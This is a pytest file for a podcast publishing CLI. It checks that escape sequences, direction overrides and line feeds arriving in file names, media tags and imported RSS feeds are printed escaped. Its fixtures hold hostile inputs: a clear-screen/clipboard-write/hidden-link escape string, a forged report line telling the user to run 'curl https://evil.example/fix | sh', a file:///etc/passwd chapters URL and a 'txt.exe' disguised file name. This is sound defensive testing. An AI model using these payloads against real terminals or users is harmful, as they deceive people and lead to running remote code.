"""Hostile text on the terminal: what ``check``, ``list``, ``tag`` and ``build`` print from a file's name, a title or
a media file's own tags never acts on the terminal (clears it, recolours it, writes the clipboard, hides a link, or
reverses the rest of a line); it is written out so the producer can see it and find it."""

from __future__ import annotations

import re
from pathlib import Path

from click.testing import CliRunner
from helpers import add_episode, make_media
from mutagen.id3 import ID3, TIT2, TPE1

from mediafeed.cli import main

#: every escape sequence a line may hold when colour is on: click's own Select Graphic Rendition (colour, bold)
_OUR_STYLE = re.compile(r"\x1b\[[0-9;]*m")
#: clear the screen, OSC 52 (write the clipboard: "pwned" in base 64) and OSC 8 (a link behind the text), BEL-ended
HOSTILE = "\x1b[2J\x1b]52;c;cHduZWQ=\x07\x1b]8;;tel:0800\x1b\\click\x1b]8;;\x1b\\\x9b2J\r"


def _acting(output: str) -> list[str]:
    """Control characters the terminal would act on, other than our own styles, line feeds and tabs."""
    return re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", _OUR_STYLE.sub("", output))


def test_a_folder_name_with_escape_sequences_is_written_out_by_check(show: Path) -> None:
    add_episode(show, f"007-{HOSTILE}", """
title: A folder named by a hostile archive
date: 2026-03-21T08:00:00+00:00
guid: 6a3c0c2e-5a0e-4b8e-9a7e-1b2c3d4e5f62
audio: audio.mp3
""")
    result = CliRunner().invoke(main, ["--color", "check", "-s", str(show)])
    assert "SRC052" in result.output, result.output
    assert _acting(result.output) == [], result.output
    assert r"007-\x1b[2J\x1b]52;c;cHduZWQ=\x07" in result.output  # the producer sees what is in the name


def test_a_media_files_own_tags_are_written_out_by_tag(show: Path) -> None:
    audio = next((show / "episodes" / "003-capabilities-framework").glob("*.mp3"))
    tags = ID3()
    tags.add(TIT2(encoding=3, text=f"Old title {HOSTILE} \u202eesrever"))
    tags.add(TPE1(encoding=3, text="\u202eA guest's own artist tag " + "x" * 100))
    tags.save(audio)
    for colour in ("--color", "--no-color"):
        result = CliRunner().invoke(main, [colour, "tag", "--dry-run", "-s", str(show)])
        assert result.exit_code == 0, result.output
        title = next(line for line in result.output.splitlines() if line.startswith("  title: Old title"))
        assert _acting(result.output) == [], title
        assert r"\x1b]52;c;cHduZWQ=\x07" in title
        # the override is closed before the arrow: it cannot reverse the new value printed after it
        artist = next(line for line in result.output.splitlines() if line.startswith("  artist: \u202e"))
        assert title.index("\u202c") < title.index("→") and artist.index("\u202c") < artist.index("→"), artist


def test_add_writes_a_media_files_own_title_and_comment_without_what_every_read_removes(show: Path,
                                                                                       tmp_path: Path) -> None:
    """``mediafeed add`` takes the title and summary from the audio's own tags (an encoder's or a guest's): it wrote
    them into episode.md as they were, escape sequences and C1 controls and all, and every check and build after
    warned of them twice (SRC022, SRC023; ``--strict`` failed) about text the producer never typed. A file name
    holding an override, quoted in the line saying what the audio is saved as, reversed the rest of that line."""
    import json

    from mutagen.id3 import COMM

    source = make_media(tmp_path / "ep\u202eone.mp3")
    tags = ID3()
    tags.add(TIT2(encoding=3, text=f"Tag title {HOSTILE} \u202eesrever \u0092s"))
    tags.add(COMM(encoding=3, lang="eng", desc="", text=f"A summary {HOSTILE}"))
    tags.save(source)
    result = CliRunner().invoke(main, ["add", str(source), "-s", str(show)])
    assert result.exit_code == 0, result.output
    assert _acting(result.output) == [], result.output
    [line] = [line for line in result.output.splitlines() if line.startswith("The audio is saved as")]
    assert r"not ep\u202eone.mp3 (" in line, line  # was: the override raw and open, reversing the rest of the line
    [folder] = [f for f in (show / "episodes").iterdir() if "tag-title" in f.name]
    front = (folder / "episode.md").read_text(encoding="utf-8")
    assert not re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f]", front), front  # was: \e[2J, \x9B… in the title
    assert "’s" in front and "\u202eesrever" in front and "\u202c" in front  # C1 read as Windows-1252's; closed
    checked = CliRunner().invoke(main, ["check", "-s", str(show), "--format", "json"])
    codes = {p["code"] for p in json.loads(checked.stdout)["problems"]}
    assert not codes & {"SRC022", "SRC023"}, checked.stdout  # was: both, at every check and build


def test_list_closes_an_override_its_cut_leaves_open_in_a_title(show: Path) -> None:
    episode = show / "episodes" / "003-capabilities-framework" / "episode.md"
    text = episode.read_text(encoding="utf-8")
    long = "\u202e" + "A right-to-left override left open in a very long title " * 2
    episode.write_text(re.sub(r"(?m)^title: .*$", f'title: "{long}"', text, count=1), encoding="utf-8")
    result = CliRunner().invoke(main, ["list", "-s", str(show)])
    row = next(line for line in result.output.splitlines() if "\u202e" in line)
    # the cut at 47 characters took the closing PDF the reader added: the status and problems after it ran reversed
    assert row.index("\u202c") < row.index("published"), row


def test_a_line_feed_in_a_feeds_guid_or_title_is_written_out_not_a_line_of_the_report(tmp_path: Path) -> None:
    """A remote feed's GUID and title are quoted in the import's report (the GUID heads its episode's problems). A line
    feed in them started a line of its own, which could pass for the report's: here a fake error and a fake step to
    follow. Every diagnostic line is one line now, its line feeds written out as ``\\n``."""
    fake = "\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh\n"
    feed = tmp_path / "old.xml"
    feed.write_text(f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:podcast="https://podcastindex.org/namespace/1.0"><channel><title>Old</title>
<link>https://old.example.org/</link><description>Old show</description><language>en</language>
<item><title>One{fake}</title><guid isPermaLink="false">g1{fake}</guid><pubDate>Mon, 02 Mar 2026 08:00:00 +0000</pubDate>
<enclosure url="https://old.example.org/one.mp3" length="10000" type="audio/mpeg"/>
<podcast:chapters url="file:///etc/passwd" type="application/json+chapters"/></item></channel></rss>""")
    result = CliRunner().invoke(main, ["import", str(feed), "--show", str(tmp_path / "show"),
                                       "--url", "https://new.example.org/"])
    assert "IMP042" in result.output, result.output
    lines = result.output.splitlines()
    assert not any(line.startswith(("  error show.yml: fake", "  9. Run")) for line in lines), result.output
    # (the GUID as the feed holds it, its last line feed too: published as written since session 30)
    assert r"g1\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh\n:" in lines, result.output
    # the imported title, in a row of `list`'s table: one row, not a row and a line that passes for the report's
    [folder] = (tmp_path / "show" / "episodes").iterdir()
    make_media(folder / "one.mp3")  # (not downloaded: the episode would be listed as unreadable, by its folder)
    listed = CliRunner().invoke(main, ["list", "-s", str(tmp_path / "show")]).output
    assert not any(line.lstrip().startswith("error show.yml: fake") for line in listed.splitlines()), listed
    # (the title is one line since session 30: its line breaks spaces, SRC059)
    assert "One error show.yml: fake [SRC001] 9. Run: curl" in listed, listed


def test_publish_writes_out_a_hostile_file_name_in_its_per_file_lines(show: Path, tmp_path: Path) -> None:
    """A file in the site folder named with escape sequences, a right-to-left override and a line feed: the dry run's
    ``upload`` line let the override reverse the rest of the line and the line feed start a line of its own (a fake
    ``upload`` of another file); the publish's ``uploaded`` lines (its progress off a terminal) wrote the name as it
    was, escape sequences and all, to a terminal that acts on them."""
    from mediafeed.build import build

    web, site = tmp_path / "www", tmp_path / "site"
    web.mkdir()
    with open(show / "show.yml", "a", encoding="utf-8") as handle:
        handle.write(f"\npublish:\n  targets:\n    web:\n      type: directory\n      path: {web}\n")
    build(show, site)
    hostile = "notes-\x1b[2J\x1b]52;c;cHduZWQ=\x07\u202etxt.exe\nupload  fake.mp3.txt"
    (site / hostile).write_text("x")
    for dry_run in (["--dry-run"], []):
        result = CliRunner().invoke(main, ["publish", "-s", str(show), "-o", str(site), "--no-build", "--no-notify",
                                           *dry_run])
        assert result.exit_code == 0, result.output
        assert _acting(result.output) == [] and "\u202e" not in result.output, result.output
        assert not any(line.startswith("upload  fake") for line in result.output.splitlines()), result.output
        assert r"notes-\x1b[2J\x1b]52;c;cHduZWQ=\x07\u202etxt.exe\nupload  fake.mp3.txt" in result.output
    assert (web / hostile).read_text() == "x"  # (published under its own name)


def test_json_and_the_failed_lines_of_an_import_write_out_c1_controls_and_overrides_from_a_feed(tmp_path: Path) -> None:
    """A feed's GUID, title and enclosure address are quoted in the import's report. XML allows the C1 controls
    (U+009B is CSI, as ESC [ is: ``\\u009b2J`` clears the screen in xterm) and the direction overrides; JSON escapes only
    the C0 controls, so ``--format json`` wrote them as they were, and the line naming a failed download left an
    override open, reversing the rest of it. JSON writes them as its escapes (the same values to a JSON reader), the
    failed line writes them out."""
    import json
    import os
    import subprocess
    import sys

    from helpers import ROOT

    feed = tmp_path / "old.xml"
    feed.write_text("""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Old</title><link>https://old.example.org/</link><description>Old show</description>
<item><title>One \u009b2J \u202eeno</title><guid isPermaLink="false">g1\u009b2J\u2067</guid>
<pubDate>Mon, 02 Mar 2026 08:00:00 +0000</pubDate>
<enclosure url="http://127.0.0.1:9/one\u202e.mp3" length="10000" type="audio/mpeg"/></item></channel></rss>""")
    runs = {kind: subprocess.run([sys.executable, "-m", "mediafeed", "import", str(feed), "--show",
                                  str(tmp_path / kind), "--url", "https://new.example.org/", "--download", *extra],
                                 capture_output=True, text=True, encoding="utf-8", timeout=300,
                                 env={**os.environ, "PYTHONPATH": str(ROOT)})
            for kind, extra in (("json", ["--format", "json"]), ("text", []))}
    done = runs["json"]
    assert done.returncode == 1, done.stderr
    active = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    assert active.findall(done.stdout) == [], done.stdout  # was: U+009B, U+2067 and U+202E, raw
    [failed] = json.loads(done.stdout)["failed"]
    assert (failed["guid"], failed["url"]) == ("g1\u009b2J\u2067", "http://127.0.0.1:9/one\u202e.mp3")
    assert r'"guid": "g1\u009b2J\u2067"' in done.stdout
    text = runs["text"]
    assert text.returncode == 1, text.stderr
    assert active.findall(text.stdout + text.stderr) == [], text.stderr
    [line] = [line for line in text.stderr.splitlines() if line.startswith("  one")]
    assert r"\u202e" in line and line.endswith(r"(http://127.0.0.1:9/one\u202e.mp3)"), line
